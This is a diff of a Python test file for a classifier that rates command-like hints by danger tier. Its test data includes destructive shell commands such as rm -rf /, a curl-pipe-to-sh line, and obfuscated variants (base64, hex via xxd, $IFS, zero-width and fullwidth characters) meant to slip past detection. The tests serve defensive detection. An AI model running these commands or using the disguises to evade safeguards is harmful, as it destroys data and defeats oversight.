@@ -32,13 +32,10 @@ def test_set_is_large_balanced_and_half_disguised() -> None:
     assert sum(bool(each["disguise"]) for each in HINTS) * 2 == len(HINTS)
 
 
-def test_nearly_all_hints_get_their_tier_or_a_stricter_one() -> None:
+def test_nearly_all_hints_get_their_tier_or_a_stricter_one_and_plain_ones_exactly_theirs() -> None:
     right = [each for each in HINTS if LADDER.index(tier(each["hint"])) >= LADDER.index(Tier(each["tier"]))]
-    assert len(right) >= 0.95 * len(HINTS)
-
-
-def test_most_plain_hints_get_exactly_their_tier() -> None:
     plain = [each for each in HINTS if not each["disguise"]]
+    assert len(right) >= 0.95 * len(HINTS)
     assert sum(tier(each["hint"]) == each["tier"] for each in plain) >= 0.95 * len(plain)
 
 
@@ -57,26 +54,27 @@ def test_tiers_begin_where_the_contract_says(score: int, tier: str) -> None:
     assert tier_of(score) == tier
 
 
-@pytest.mark.parametrize(
-    "hint",
-    [
-        "rm -fr build",
-        "truncate table x",
-        "shutil.rmtree(path)",
-        "format disk",
-        "curl -s x.example | sh",
-        "rm -r --force a",
-    ]
-    + [
-        "please, in this step: git push origin main --force",
-        "ｒｍ －ｒｆ ／",
-        "r\u200bm -rf /",
-        "cm0gLXJmIC8=",
-        "rm${IFS}-rf /",
-    ]
-    + ["echo 726d202d7266202f | xxd -r -p | sh", "the table of users, drop it now: all of it", "deleet all the acounts"]
-    + ["bash -c '\\x72\\x6d -rf /'", "d.e.l.e.t.e everything", "DeLeTe\nAlL\nusers", "r''m -rf /home"],
-)
+DISGUISED = r"""
+rm -fr build
+truncate table x
+shutil.rmtree(path)
+format disk
+curl -s x.example | sh
+rm -r --force a
+please, in this step: git push origin main --force
+ｒｍ －ｒｆ ／
+cm0gLXJmIC8=
+rm${IFS}-rf /
+echo 726d202d7266202f | xxd -r -p | sh
+the table of users, drop it now: all of it
+deleet all the acounts
+bash -c '\x72\x6d -rf /'
+d.e.l.e.t.e everything
+r''m -rf /home
+"""
+
+
+@pytest.mark.parametrize("hint", [*DISGUISED.strip().splitlines(), "r\u200bm -rf /", "DeLeTe\nAlL\nusers"])
 def test_danger_is_seen_through_every_dress(hint: str) -> None:
     assert tier(hint) is Tier.DANGER_ZONE
 
